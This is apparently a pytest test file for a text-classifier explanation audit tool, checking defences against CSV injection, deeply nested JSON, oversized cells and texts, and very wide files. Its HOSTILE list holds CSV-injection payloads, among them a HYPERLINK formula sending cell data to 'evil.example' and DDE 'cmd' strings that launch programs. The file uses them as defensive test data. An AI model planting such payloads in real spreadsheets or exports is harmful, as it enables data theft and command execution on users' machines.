"""Hostile and careless data files for the audit (issue 20, points 1-5): CSV injection, deep JSON, huge
cells, huge texts, files with very many columns."""

from __future__ import annotations

import csv
import json

import numpy as np
import pandas as pd
import pytest

from explainers.audit.data import read_data
from explainers.audit.engine import run_audit
from explainers.audit.work import AuditSettings
from explainers.errors import InputError

HOSTILE = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1 after spaces",
    "a plain review , fine film .",
]


def _formula_cell(cell: str) -> bool:
    """What a spreadsheet runs, written out from OWASP's list independently of whybox's code."""
    stripped = cell.lstrip(" ")
    if not stripped or stripped[0] not in "=+-@\t\r":
        return False
    try:
        float(cell)  # a number is read as a number
        return False
    except ValueError:
        return True


# ---- 1. CSV injection --------------------------------------------------------------------------------------------
def test_results_csv_never_holds_a_formula_and_the_parquet_keeps_the_text(tiny_bert, tiny_bert_dir, tmp_path):
    path = tmp_path / "hostile.jsonl"
    path.write_text("".join(json.dumps({"text": t}) + "\n" for t in HOSTILE))
    data = read_data(str(path))
    result = run_audit(
        data,
        AuditSettings(str(tiny_bert_dir), ("occlusion",), {}),
        tmp_path / "out",
        handle=tiny_bert,
        store_dir=tmp_path / "store",
    )
    with open(result.out_dir / "results.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(HOSTILE)
    offending = [(r["row_id"], k, v) for r in rows for k, v in r.items() if _formula_cell(v)]
    assert not offending
    by_row = {int(r["row_id"]): r for r in rows}
    for i, text in enumerate(HOSTILE):
        expected = "'" + text if _formula_cell(text) else text
        assert by_row[i]["text"] == expected
    assert any(float(v) < 0 for r in rows for v in json.loads(r["word_scores"]))  # numbers stay numbers
    table = pd.read_parquet(result.out_dir / "results.parquet").sort_values("row_id")
    assert list(table.text) == HOSTILE  # the exact texts are kept where no spreadsheet reads them


# ---- 2. deep JSON -------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("kind", ["jsonl", "array", "rationale"])
def test_deeply_nested_json_is_an_input_error(tmp_path, kind):
    deep = "[" * 40_000 + "]" * 40_000  # within the cell limit, far past Python's recursion limit
    path = tmp_path / "deep.jsonl"
    if kind == "jsonl":
        path.write_text('{"text": "fine"}\n{"text": ' + deep + "}\n")
        where = "line 2"
    elif kind == "array":
        path.write_text('[{"text": "fine"}, {"text": ' + deep + "}]")
        where = "'deep.jsonl' nests"
    else:  # a rationale written as a JSON list in a string, read when the rows are built
        path.write_text(json.dumps({"text": "fine", "why": deep}) + "\n")
        where = "row 1"
    with pytest.raises(InputError, match=f"{where}.*too deeply"):
        read_data(str(path), rationale_column="why" if kind == "rationale" else None)


# ---- 3. a huge cell -------------------------------------------------------------------------------------------------
def test_a_huge_cell_is_refused_naming_its_row_before_any_model_work(tmp_path, monkeypatch):
    path = tmp_path / "big.jsonl"
    rows = [{"text": "fine film"}, {"text": "good"}, {"text": "x " * 60_000}]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    with pytest.raises(InputError, match=r"row 3: the 'text' cell holds 120,000 characters, over the limit of 100,000"):
        read_data(str(path))
    monkeypatch.setenv("WHYBOX_AUDIT_MAX_CELL_CHARS", "200000")
    assert len(read_data(str(path)).rows) == 3  # raised by the operator, it reads
    monkeypatch.setenv("WHYBOX_AUDIT_MAX_CELL_CHARS", "5")
    with pytest.raises(InputError, match=r"row 1: the 'y' cell"):  # every cell read is bounded
        read_data(str(_jsonl(tmp_path, [{"text": "ok", "y": "a long label"}])), label_column="y")
    csv_path = tmp_path / "big.csv"
    pd.DataFrame({"text": ["ok", "far too long"]}).to_csv(csv_path, index=False)
    with pytest.raises(InputError, match=r"row 2: the 'text' cell holds 12 characters"):
        read_data(str(csv_path))


def _jsonl(tmp_path, rows, name="d.jsonl"):
    path = tmp_path / name
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


# ---- 5. a missing column among very many -------------------------------------------------------------------------
def test_a_missing_column_names_the_first_few_and_the_count(tmp_path):
    columns = ["text"] + [f"c{i}" for i in range(100_000)] + ["y" * 5000]
    path = tmp_path / "wide.csv"
    path.write_text(",".join(columns) + "\n" + ",".join(["a film"] + ["1"] * (len(columns) - 1)) + "\n")
    with pytest.raises(InputError) as info:
        read_data(str(path), text_column="review")
    message = str(info.value)
    assert len(message) < 400 and "\n" not in message
    assert "no text column 'review'" in message and "'text', 'c0', 'c1'" in message
    assert "(100,002 columns in all)" in message
    path = tmp_path / "few.csv"
    path.write_text("text,label\nok,1\n")
    with pytest.raises(InputError, match=r"its columns are: 'text', 'label'\.$"):
        read_data(str(path), label_column="gold")


# ---- 4. a huge text is read only as far as the model reads ------------------------------------------------------
class _CountingTokenizer:
    """The handle's tokenizer, recording how many characters each call hands it."""

    def __init__(self, tok):
        self._tok, self.chars = tok, []

    def __call__(self, text, *args, **kwargs):
        self.chars.append(sum(map(len, text)) if isinstance(text, list) else len(text))
        return self._tok(text, *args, **kwargs)

    def __getattr__(self, name):
        return getattr(self._tok, name)


@pytest.mark.parametrize("fixture", ["tiny_bert", "tiny_gpt2"])
def test_a_huge_text_is_tokenized_only_as_far_as_the_model_reads(request, monkeypatch, fixture):
    handle = request.getfixturevalue(fixture)
    tok = handle.tokenizer
    text = "the plot is thin and the jokes fall flat . " * 50_000  # 2.2 MB
    counting = _CountingTokenizer(tok)
    monkeypatch.setattr(handle, "tokenizer", counting)
    enc = handle.encode(text)
    target = None if fixture == "tiny_bert" else handle.resolve_target(enc)  # an LM's view needs a token
    probs = handle.predict_proba([text, "fine film"], target)
    assert max(counting.chars) < 50_000 + len("fine film")  # never the whole text
    monkeypatch.setattr(handle, "tokenizer", tok)
    # the same tokens, words and probabilities as the tokenizer's own truncation of the whole text
    whole = tok(text, truncation=True, max_length=handle.max_tokens, return_offsets_mapping=True)
    assert enc.ids == whole["input_ids"] and enc.truncated
    kept = [o for o in whole["offset_mapping"] if o[1] > o[0]]
    assert "".join(enc.words) == "".join(text[kept[0][0] : kept[-1][1]].split())
    expected = handle.task.class_probabilities(
        handle.score_ids([tuple(whole["input_ids"])], handle.task.target_for_class_view(target))
    )
    np.testing.assert_allclose(probs[0], expected[0], atol=1e-6)
    short = handle.encode("a short text .")  # a text the model reads whole is not marked truncated
    assert not short.truncated and short.ids == tok("a short text .")["input_ids"]
    just_over = "film " * (handle.max_tokens + 1)  # one token over, under the first prefix's length
    assert handle.encode(just_over).truncated


# ---- 10. the summary does not depend on the order records arrive in ----------------------------------------------
def test_summary_is_identical_whatever_order_the_records_arrive_in(tiny_bert, tiny_bert_dir, tmp_path):
    import pyarrow.parquet as pq

    from explainers.audit.summary import summarize

    texts = [
        "a gripping , funny and beautifully acted film .",
        "the plot is thin and the jokes fall flat .",
        "one of the best movies of the year , full of heart .",
        "dull , lifeless and far too long .",
        "a film , a plot , a heart .",
        "the jokes are funny and the plot is fine .",
    ] * 2  # repeated words: several terms per streamed sum
    path = tmp_path / "d.jsonl"
    path.write_text(
        "".join(json.dumps({"text": t, "label": ["positive", "negative"][i % 2]}) + "\n" for i, t in enumerate(texts))
    )
    result = run_audit(
        read_data(str(path), label_column="label"),
        AuditSettings(str(tiny_bert_dir), ("occlusion", "leave_one_out", "lime"), {"lime": {"n_samples": 20}}),
        tmp_path / "out",
        handle=tiny_bert,
        store_dir=tmp_path / "store",
    )
    table = pq.read_table(result.out_dir / "results.parquet")
    labels, methods = tiny_bert.labels, ["occlusion", "leave_one_out", "lime"]
    summaries = []
    for seed in (1, 2, 3):
        order = np.random.default_rng(seed).permutation(len(table))
        shuffled = tmp_path / f"shuffled{seed}" / "results.parquet"
        shuffled.parent.mkdir()
        pq.write_table(table.take(order), shuffled)
        summaries.append(json.dumps(summarize(shuffled, labels, methods, seed=0), sort_keys=True))
    mine = dict(result.summary)
    mine.pop("settings"), mine.pop("data"), mine.pop("records")
    assert summaries[0] == summaries[1] == summaries[2] == json.dumps(mine, sort_keys=True)


@pytest.mark.slow
def test_ray_and_local_write_the_same_summary(tiny_bert, tiny_bert_dir, tmp_path):
    pytest.importorskip("ray")
    from explainers.audit.ray_engine import _connect

    texts = [
        "a gripping , funny and beautifully acted film .",
        "the plot is thin and the jokes fall flat .",
        "one of the best movies of the year , full of heart .",
        "dull , lifeless and far too long .",
        "a film , a plot , a heart .",
    ]
    path = tmp_path / "d.jsonl"
    path.write_text("".join(json.dumps({"text": t, "label": str(i % 2)}) + "\n" for i, t in enumerate(texts)))
    data = read_data(str(path), label_column="label")
    settings = AuditSettings(str(tiny_bert_dir), ("occlusion", "leave_one_out"), {})
    local = run_audit(data, settings, tmp_path / "local", handle=tiny_bert, store_dir=tmp_path / "s1", chunk_size=2)
    started = _connect(None, 2)
    try:
        ray = run_audit(
            data, settings, tmp_path / "ray", store_dir=tmp_path / "s2", engine="ray", chunk_size=2, workers=2
        )
    finally:
        if started:
            import ray as ray_module

            ray_module.shutdown()
    a, b = (json.loads((r.out_dir / "summary.json").read_text()) for r in (local, ray))
    for summary in (a, b):
        summary.pop("settings")
    assert json.dumps(a, sort_keys=True) == json.dumps(b, sort_keys=True)


def test_exact_sum_is_math_fsum_in_any_order():
    import math
    import random

    from explainers.audit.summary import ExactSum

    rng = random.Random(1)
    for _ in range(100):
        terms = [rng.uniform(-1, 1) * 10 ** rng.randint(-10, 10) for _ in range(rng.randint(0, 200))]
        forward, backward = ExactSum(), ExactSum()
        for x in terms:
            forward.add(x)
        for x in reversed(terms):
            backward.add(x)
        assert forward.value == backward.value == math.fsum(terms)
